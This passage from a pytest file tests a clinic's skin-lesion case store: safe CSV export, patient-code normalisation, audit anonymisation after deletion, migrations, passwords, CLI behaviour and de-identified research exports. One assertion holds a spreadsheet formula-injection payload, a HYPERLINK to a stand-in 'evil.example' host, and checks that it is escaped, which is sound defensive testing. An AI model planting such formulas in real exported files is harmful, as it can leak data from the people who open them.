                                          lesion_label=FORMULAS["lesion_label"], clinician=FORMULAS["clinician"],
                                          clinic=FORMULAS["clinic"]))
    second = store.save_case(DOCTOR, draft("BN-002", note="\t=1+2\nsecond line"))
    third = store.save_case(DOCTOR, draft("BN-003", note="\r=3+4", lesion_label="left arm, 2 cm"))
    table = store.export(ADMIN, [first, second, third])
    with zipfile.ZipFile(io.BytesIO(store.export(ADMIN, [first, second, third], photos=True))) as archive:
        assert archive.read("cases.csv") == table
    rows = list(csv.reader(io.StringIO(table.decode("utf-8-sig"), newline="")))
    assert all(not cell.startswith(store_module.FORMULA_START) for row in rows for cell in row)
    frame = pd.read_csv(io.BytesIO(table), encoding="utf-8-sig", keep_default_na=False)
    assert (frame.loc[0, "note"], frame.loc[0, "lesion_label"], frame.loc[0, "clinician"],
            frame.loc[0, "clinic"], frame.loc[0, "patient_code"]) == tuple(
        "'" + FORMULAS[name] for name in ("note", "lesion_label", "clinician", "clinic", "patient"))
    assert list(frame["note"][1:]) == ["'\t=1+2\nsecond line", "'\r=3+4"]
    assert frame.loc[2, "lesion_label"] == "left arm, 2 cm" and frame.loc[2, "patient_code"] == "BN-003"
    assert frame["p_nv"].dtype == float and list(frame["id"]) == [first, second, third]
    assert "\"'=HYPERLINK(\"\"http://evil.example/" in table.decode("utf-8-sig")  # quoted, quotes doubled


# case numbers and patient codes ---------------------------------------------------------------------------------


def test_a_deleted_patients_case_numbers_are_never_given_again(store):
    kept = store.save_case(DOCTOR, draft("BN-001"))
    last = store.save_case(DOCTOR, draft("BN-002"))
    store.open_case(DOCTOR, last)  # the audit names it
    store.delete_patient(ADMIN, "BN-002")
    new = store.save_case(DOCTOR, draft("BN-003"))
    assert new > last > kept
    assert [e["action"] for e in store.audit_log(ADMIN) if e["case"] == new] == ["save"]


def revision_0002_with_data(database) -> None:
    """A database as revision 0002 left it: users and codes as typed, case 7 deleted before the upgrade (the
    audit still names it), images, and audit entries that name a patient."""
    engine = store_module._engine(store_module.database_url(database))
    store_module.upgrade(engine, "0002")
    now = datetime.datetime(2026, 11, 20, 9, tzinfo=datetime.timezone.utc)
    case_row = dict(lesion_label="", visit_date=datetime.date(2026, 11, 20), created_at=now, created_by="LAN",
                    clinic="", clinician="", age=None, sex="male", site="face", model_name="m", model_version="1",
                    gate_reason=None, gate_problem=None, gate_score=None,
                    probabilities={code: 1 / 7 for code in CLASS_CODES}, top_code="akiec", malignant_probability=0.43,
                    malignancy_threshold=0.3, malignancy_alert=True, low_confidence=False, photo_name="",
                    photo_sha256="0" * 64, photo_storage="full", note="")
    codes = {1: "bn-0042", 2: "BN\u200b-0042", 3: "ＢＮ－００４２", 5: "HN-7"}
    with engine.begin() as connection:
        connection.execute(User.__table__.insert(), [
            dict(username=name, password_hash=store_module._hasher.hash(PASSWORD), role=role, active=True,
                 created_at=now) for name, role in (("LAN", "doctor"), ("Chi", "admin"))])
        connection.execute(Case.__table__.insert(), [dict(case_row, id=i, patient_code=code)
                                                     for i, code in codes.items()])
        connection.execute(CaseImages.__table__.insert(), [dict(case_id=i, photo=photo_bytes(),
                                                                photo_media_type="image/png", attention=None)
                                                           for i in codes])
        connection.execute(AuditEntry.__table__.insert(), [
            *(dict(at=now, username="LAN", action="save", case_id=i, detail=f"patient {code}")
              for i, code in codes.items()),
            dict(at=now, username="LAN", action="view", case_id=7, detail=""),
            dict(at=now, username="LAN", action="search", case_id=None, detail=json.dumps(
                {"patient_code": "bn-0042", "found": 3}, ensure_ascii=False))])
    engine.dispose()


def test_a_0002_database_is_upgraded_with_its_data(database):
    revision_0002_with_data(database)
    store = CaseStore.open(database)
    lan, chi = UserInfo("lan", "doctor"), UserInfo("chi", "admin")
    assert [u["username"] for u in store.users(chi)] == ["chi", "lan"]
    assert store.authenticate("LAN", PASSWORD) == lan and store.authenticate("chi", PASSWORD) == chi
    assert {c.id: c.patient_code for c in store.find_cases(lan)} == {1: "BN-0042", 2: "BN-0042", 3: "BN-0042",
                                                                      5: "HN-7"}
    assert count(store, CaseImages) == 4  # rebuilding the cases table deleted no photo
    assert store.delete_patient(chi, "bn-0042") == 3
    assert [c.id for c in store.find_cases(lan)] == [5]
    assert not any("0042" in e["detail"] for e in store.audit_log(chi))
    assert store.save_case(lan, draft("BN-9")) == 8  # above case 7, which the audit names
    assert store.open_case(lan, 5).threshold_source == "model"  # saved before clinics had their own threshold
    with store.engine.connect() as connection:
        assert connection.scalar(text("SELECT version_num FROM alembic_version")) == "0005"
    store.close()


def test_users_differing_only_in_case_stop_the_upgrade_with_a_clear_message(tmp_path):
    database = str(tmp_path / "cases.db")
    engine = store_module._engine(store_module.database_url(database))
    store_module.upgrade(engine, "0002")
    with engine.begin() as connection:
        connection.execute(User.__table__.insert(), [
            dict(username=name, password_hash="x", role="doctor", active=True,
                 created_at=datetime.datetime(2026, 11, 1)) for name in ("lan", "LAN")])
    with pytest.raises(store_module.CaseError, match="users 'lan' and 'LAN' would become one"):
        CaseStore.open(database)
    with engine.connect() as connection:  # left as it was
        assert connection.scalar(text("SELECT version_num FROM alembic_version")) == "0002"
        assert sorted(connection.scalars(text("SELECT username FROM users"))) == ["LAN", "lan"]
    engine.dispose()


SPELLINGS = ["BN-0042", "bn-0042", " BN-0042\u00a0", "BN\u200b-0042", "\ufeffBN-0042", "ＢＮ－００４２", "Bn-0042\u200d"]


def test_every_spelling_of_a_patient_code_is_one_patient(store):
    ids = [store.save_case(DOCTOR, draft(code)) for code in SPELLINGS]
    other = store.save_case(DOCTOR, draft("BN-00421"))
    assert {c.patient_code for c in store.find_cases(DOCTOR) if c.id != other} == {"BN-0042"}
    assert {c.id for c in store.find_cases(DOCTOR, patient_code="ｂｎ-00４2")} == {*ids, other}
    assert len(store.lesion_visits(DOCTOR, ids[0])) == len(SPELLINGS)
    assert store.delete_patient(ADMIN, "bn\u200b-0042 ") == len(SPELLINGS)
    assert [c.id for c in store.find_cases(DOCTOR)] == [other]


def test_a_deleted_patient_is_no_longer_named_in_the_audit(store):
    """The audit keeps what was done to the patient's cases, under "deleted patient <n>" (n: the deletion's
    own audit entry), and nothing else of the audit changes, even for a code that is a plain number."""
    first, second = (store.save_case(DOCTOR, draft(code)) for code in ("BN-0042", "bn-0042"))
    store.save_case(DOCTOR, draft("7"))
    store.find_cases(DOCTOR, patient_code="bn-0042")
    store.find_cases(DOCTOR, patient_code="BN-00")  # a part of many codes: names no one
    store.delete_patient(ADMIN, "BN-0042")
    deletion = store.audit_log(ADMIN)[0]
    alias = deletion["detail"].removeprefix("patient ").split(":")[0]
    assert re.fullmatch(r"deleted patient \d+", alias)
    assert deletion["detail"] == f"patient {alias}: 2 cases [{first}, {second}]"
    entries = list(reversed(store.audit_log(ADMIN)))
    assert not any("0042" in e["detail"] for e in entries)
    assert [e["detail"] for e in entries if e["action"] == "save"] == [f"patient {alias}"] * 2 + ["patient 7"]
    searches = [json.loads(e["detail"]) for e in entries if e["action"] == "search"]
    assert [(s["patient_code"], s["found"]) for s in searches] == [(alias, 2), ("BN-00", 2)]
    store.delete_patient(ADMIN, "7")
    later = list(reversed(store.audit_log(ADMIN)))
    changed = [(before["detail"], after["detail"]) for before, after in zip(entries, later)
               if before["detail"] != after["detail"]]
    assert len(changed) == 1 and changed[0][0] == "patient 7" and changed[0][1].startswith("patient deleted patient ")


def test_a_deleted_patient_leaves_nothing_in_the_sqlite_files(tmp_path):
    database = tmp_path / "cases.db"
    store = with_staff(CaseStore.open(str(database)))
    store.change_settings(ADMIN, photo_storage="full")
    note = "Nốt ruồi bờ không đều, secret-note-4711 " * 40  # long: stored on overflow pages too
    for visit in range(3):
        case_id = store.save_case(DOCTOR, draft("XQ-9137", note=note, lesion_label=f"visit-label-{visit}"))
    store.edit_note(DOCTOR, case_id, "edited-note-0815")  # the earlier text stays as a version until deleted
    store.save_case(DOCTOR, draft("BN-0001", note="kept note"))
    store.find_cases(DOCTOR, patient_code="XQ-9137")
    store.delete_patient(ADMIN, "xq-9137")

    def files() -> bytes:
        return b"".join(path.read_bytes() for path in tmp_path.iterdir() if path.name.startswith("cases.db"))

    for secret in ("XQ-9137", "secret-note-4711", "Nốt ruồi", "visit-label-", "edited-note-0815"):
        assert secret.encode() not in files(), secret
    assert count(store, NoteVersion) == 1  # only the kept patient's note
    assert b"kept note" in files()
    store.close()
    assert b"XQ-9137" not in files()


# users, passwords and the command line ------------------------------------------------------------------------


@pytest.mark.parametrize(("password", "problem"), [("12345678", "weak"), ("password1", "weak"),
                                                   ("Password123!", "weak"), ("minh1234", "weak"),
                                                   (" " * 8, "required"), ("\t" * 12, "required"),
                                                   ("aaaaaaaaaaaa", "weak"), ("2 words", "too_short")])
def test_weak_passwords_are_refused(store, password, problem):
    with pytest.raises(InvalidCaseError) as refused:
        store.add_user("minh", password)
    assert (refused.value.field, refused.value.problem) == ("Password", problem)
    with pytest.raises(InvalidCaseError):
        store.set_password("lan", password)
    assert store.authenticate("lan", PASSWORD) == DOCTOR and not store.user_exists("minh")


def test_user_names_ignore_case_and_width(store):
    store.add_user("Minh", "minh's long passphrase")
    assert store.user_exists("MINH") and store.user_exists("ｍｉｎｈ")
    assert store.authenticate("MINH", "minh's long passphrase") == UserInfo("minh", "doctor")
    assert store.authenticate(" minh\u200b", "minh's long passphrase") == UserInfo("minh", "doctor")
    with pytest.raises(InvalidCaseError, match="Username 'lan' exists already") as refused:
        store.add_user("LAN", "another long passphrase")
    assert refused.value.problem == "exists"
    store.set_password("LAN", "lan's new passphrase", by=DOCTOR)  # one's own password, in any case
    assert store.authenticate("Lan", "lan's new passphrase") == DOCTOR


@pytest.mark.parametrize(("age", "stored"), [(None, None), ("", None), (54, 54.0), ("54,5", 54.5)])
def test_an_age_is_stored_as_given(store, age, stored):
    assert store.open_case(DOCTOR, store.save_case(DOCTOR, draft(age=age))).age == stored


@pytest.mark.parametrize("age", ["abc", "1e3", 400, -3, 10 ** 400, "٥٤", True, float("inf"), [54]], ids=range(9))
def test_an_impossible_age_is_refused_naming_it(store, age):
    with pytest.raises(InvalidCaseError) as refused:
        store.save_case(DOCTOR, draft(age=age))
    assert (refused.value.field, refused.value.problem) == ("Age", "invalid")
    assert str(refused.value).startswith(f"Age cannot be {store_module.shown(age)}: ")
    assert count(store, Case) == 0


def test_pdf_downloads_and_sign_outs_are_audited(store):
    case_id = store.save_case(DOCTOR, draft())
    store.audit_event(DOCTOR, "download_pdf", case_id)
    store.audit_event(DOCTOR, "download_pdf")  # an analysis not saved
    store.audit_event(DOCTOR, "sign_out")
    with pytest.raises(InvalidCaseError):
        store.audit_event(DOCTOR, "delete_patient")  # the store's own actions are not the app's to log
    store.set_user("lan", by=ADMIN, active=False)
    with pytest.raises(UserInactiveError):
        store.audit_event(DOCTOR, "download_pdf", case_id)
    store.audit_event(DOCTOR, "sign_out")  # the end of a deactivated user's session is still logged
    entries = [(e["user"], e["action"], e["case"]) for e in reversed(store.audit_log(ADMIN))]
    assert entries[-5:] == [("lan", "download_pdf", case_id), ("lan", "download_pdf", None),
                            ("lan", "sign_out", None), ("admin", "change_user", None), ("lan", "sign_out", None)]


def test_command_line_reads_a_windows_password_line_and_checks_the_name_first(tmp_path, monkeypatch, capsys):
    database = str(tmp_path / "cases.db")
    monkeypatch.setattr("sys.stdin", io.StringIO("a long password\r\n"))
    assert cli.main(["--database", database, "add-user", "chi", "--role", "admin", "--password-stdin"]) == 0
    store = CaseStore.open(database)
    assert store.authenticate("chi", "a long password") == UserInfo("chi", "admin")

    def no_prompt(prompt=""):
        raise AssertionError(f"asked {prompt!r} for a name that exists")

    monkeypatch.setattr(cli.getpass, "getpass", no_prompt)
    assert cli.main(["--database", database, "add-user", "CHI"]) == 2
    assert capsys.readouterr().err == ("error: User 'CHI' exists already; change the password with set-password, "
                                       "or reactivate the account with reactivate.\n")
    assert cli.main(["--database", database, "deactivate", "Chi"]) == 0
    assert store.authenticate("chi", "a long password") is None
    assert cli.main(["--database", database, "reactivate", "chi"]) == 0
    assert store.authenticate("chi", "a long password") == UserInfo("chi", "admin")
    assert "user chi reactivated" in capsys.readouterr().out
    assert cli.main(["--database", database, "deactivate", "nobody"]) == 2
    assert capsys.readouterr().err == "error: There is no user 'nobody'.\n"
    monkeypatch.setattr(cli.getpass, "getpass", lambda prompt="": (_ for _ in ()).throw(EOFError))
    assert cli.main(["--database", database, "set-password", "chi"]) == 2  # Ctrl-D at the prompt
    assert capsys.readouterr().err == "error: cancelled; nothing was changed.\n"
    store.close()


@pytest.mark.parametrize("database", ["foo://host/db", "postgresql+psycopg://nobody@127.0.0.1:9/none?connect_timeout=2"])
def test_command_line_says_why_the_database_cannot_be_used_in_one_line(database, capsys):
    assert cli.main(["--database", database, "list-users"]) == 1
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.startswith("error: ") and captured.err.count("\n") == 1
    assert "Traceback" not in captured.err


def photo_with_camera_metadata(seed: int) -> bytes:
    """A lesion-like JPEG whose EXIF names a date, a camera and a place, as a phone's photo does."""
    rng = np.random.default_rng(seed)
    pixels = np.clip(np.array([200, 150, 130]) + rng.normal(0, 10, (150, 200, 3)), 0, 255).astype(np.uint8)
    pixels[50:100, 70:130] = (110, 70, 50)
    exif = Image.Exif()
    exif[0x0132] = "2026:11:01 09:30:00"  # DateTime
    exif[0x0110] = "Clinic camera BN-0042"  # Model
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="JPEG", exif=exif)
    return buffer.getvalue()


def test_research_export_is_de_identified_and_reads_as_a_labelled_folder(store, tmp_path, capsys):
    from skin_core.cases.deidentify import MAX_DATE_SHIFT_DAYS, OLDEST_AGE_SHOWN
    from skin_core.research.evaluate import main as evaluate_main

    store.change_settings(ADMIN, photo_storage="full")
    saved = {}  # case id -> (patient, visit date, diagnosis)
    for index, (patient, day, diagnosis, age) in enumerate([
            ("BN-0042", datetime.date(2026, 5, 4), "nv", 54), ("BN-0042", datetime.date(2026, 11, 2), "mel", 54),
            ("NGUYEN-VAN-A", datetime.date(2026, 6, 1), "bkl", 93), ("BN-7", datetime.date(2026, 7, 9), "bcc", None),
            ("BN-8", datetime.date(2026, 8, 1), "other", 40)]):
        case_id = store.save_case(DOCTOR, draft(patient, photo=photo_with_camera_metadata(index), visit_date=day,
                                                age=age, lesion_label="lưng, tổn thương 2",
                                                note="Bà Lan, 0912 345 678"))
        store.confirm(DOCTOR, case_id, diagnosis, "histopathology" if index % 2 == 0 else "specialist", day)
        saved[case_id] = (patient, day, diagnosis)
    store.change_settings(ADMIN, photo_storage="none")
    unkept = store.save_case(DOCTOR, draft("BN-9"))
    store.confirm(DOCTOR, unkept, "nv", "follow_up", datetime.date(2026, 11, 2))
    with pytest.raises(NotAllowedError):
        store.research_export(DOCTOR)

    archive = store.research_export(ADMIN)
    folder = tmp_path / "export"
    with zipfile.ZipFile(io.BytesIO(archive)) as zipped:
        zipped.extractall(folder)
        raw = b"".join(zipped.read(name) for name in zipped.namelist())
    labels = pd.read_csv(folder / "labels.csv", dtype={"image_id": str, "lesion_id": str})
    assert len(labels) == 4 and sorted(labels["dx"]) == ["bcc", "bkl", "mel", "nv"]  # "other" and no photo left out
    for identifying in (b"BN-0042", b"NGUYEN", b"BN-7,", "lưng".encode(), "Bà Lan".encode(), b"0912 345",
                        b"lesion.png", b"Clinic camera", b"2026:11:01"):
        assert identifying not in raw, identifying
    text = (folder / "labels.csv").read_text(encoding="utf-8")
    assert DOCTOR.username not in text.split(",") and "2026-11-02" not in text
    for image_id in labels["image_id"]:
        assert not Image.open(folder / "images" / f"{image_id}.jpg").getexif()  # no camera metadata left
    assert labels["age"].max() == OLDEST_AGE_SHOWN and labels["age"].isna().sum() == 1
    visits = labels[labels["dx"].isin(["nv", "mel"])].sort_values("visit_date")
    assert visits["lesion_id"].nunique() == 1  # the same lesion of one patient, two visits
    shifted = pd.to_datetime(visits["visit_date"]).dt.date.tolist()
    assert (shifted[1] - shifted[0]).days == (datetime.date(2026, 11, 2) - datetime.date(2026, 5, 4)).days
    assert -MAX_DATE_SHIFT_DAYS <= (shifted[0] - datetime.date(2026, 5, 4)).days < 0  # always earlier
    assert set(labels["dx_type"]) <= {"histo", "consensus"}
    readme = (folder / "README.txt").read_text(encoding="utf-8")
    assert "1 confirmed case(s) whose photo the clinic did not keep" in readme
    assert "1 confirmed as a diagnosis outside the seven classes" in readme
    again = pd.read_csv(io.BytesIO(zipfile.ZipFile(io.BytesIO(store.research_export(ADMIN))).read("labels.csv")))
    assert set(again["image_id"]).isdisjoint(labels["image_id"])  # two exports cannot be joined on their ids
    assert audit_actions(store).count("research_export") == 2

    assert evaluate_main(["--model", str(paths.REPO_DIR / "weights" / "mobilenetv3small"), "--data", str(folder)]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["n"] == 4
    assert {code for code, figures in report["per_class"].items() if not figures["absent"]} == {"bcc", "bkl", "mel",
                                                                                                 "nv"}


def confirmed_history(store, n_malignant=40, n_benign=60, model=("ensemble-x", "1.0"), seed=0,
                      source="histopathology") -> None:
    """Confirmed cases whose malignant scores come from Beta(5, 2) (malignant) and Beta(2, 5) (benign)."""
    rng = np.random.default_rng(seed)
    for malignant, n in ((True, n_malignant), (False, n_benign)):
        for score in rng.beta(*((5, 2) if malignant else (2, 5)), n):
            case_id = store.save_case(DOCTOR, draft(f"BN-{rng.integers(10**6)}", malignant=float(score),
                                                    model_name=model[0], model_version=model[1]))
            store.confirm(DOCTOR, case_id, "mel" if malignant else "nv", source, datetime.date(2026, 11, 20))


def test_a_clinic_threshold_is_adopted_from_the_stored_cases_audited_used_and_reverted(store):
    from skin_core.cases.site_threshold import site_operating_point

    confirmed_history(store, n_malignant=20, n_benign=30)
    with pytest.raises(InvalidCaseError):  # 20 malignant cases: nothing to adopt
        store.adopt_site_threshold(ADMIN, "ensemble-x", "1.0")
    confirmed_history(store, n_malignant=20, n_benign=30, seed=1)
    confirmed_history(store, n_malignant=30, n_benign=0, seed=2, source="follow_up")  # never counted
    with pytest.raises(NotAllowedError):
        store.adopt_site_threshold(DOCTOR, "ensemble-x", "1.0")
    assert store.site_threshold("ensemble-x", "1.0") is None
    point = store.adopt_site_threshold(ADMIN, "ensemble-x", "1.0")
    expected = site_operating_point(store.confirmed_cases(ADMIN), "ensemble-x", "1.0")
    assert (point.n_malignant, point.n_benign) == (40, 60) and point.threshold == expected.threshold
    assert store.site_threshold("ensemble-x", "1.0") == point.threshold
    assert store.site_threshold("ensemble-x", "2.0") is None  # another version keeps the model's own
    clinic_case = store.save_case(DOCTOR, draft("BN-1", malignancy_threshold=point.threshold, threshold_source="clinic"))
    assert store.open_case(DOCTOR, clinic_case).threshold_source == "clinic"
    store.revert_site_threshold(ADMIN, "ensemble-x", "1.0")
    assert store.site_threshold("ensemble-x", "1.0") is None
    history = store.site_threshold_history(ADMIN, "ensemble-x", "1.0")
    assert [row["threshold"] for row in history] == [None, point.threshold] and history[1]["by"] == ADMIN.username
    assert [a for a in audit_actions(store) if a.endswith("_threshold")] == ["adopt_threshold", "revert_threshold"]
    with pytest.raises(InvalidCaseError):
        store.save_case(DOCTOR, draft("BN-2", threshold_source="somewhere"))


def test_a_new_sqlite_history_is_readable_by_its_owner_only(tmp_path):
    store = with_staff(CaseStore.open(str(tmp_path / "clinic" / "cases.db")))
    store.save_case(DOCTOR, draft())
    for name in ("cases.db", "cases.db-wal"):
        path = tmp_path / "clinic" / name
        if path.exists():
            assert path.stat().st_mode & 0o077 == 0, (name, oct(path.stat().st_mode))
    store.close()


def test_a_final_diagnosis_is_dated_between_the_visit_and_today(store):
    case_id = store.save_case(DOCTOR, draft(visit_date=datetime.date(2026, 11, 1)))
    tomorrow = datetime.date.today() + datetime.timedelta(days=1)
    for date, problem in ((tomorrow, "future"), (datetime.date(2026, 10, 31), "before_visit")):
        with pytest.raises(InvalidCaseError) as refused:
            store.confirm(DOCTOR, case_id, "mel", "histopathology", date)
        assert refused.value.problem == problem
    assert not store.open_case(DOCTOR, case_id).confirmed
    store.confirm(DOCTOR, case_id, "mel", "histopathology", datetime.date(2026, 11, 1))
    assert store.open_case(DOCTOR, case_id).final_date == datetime.date(2026, 11, 1)
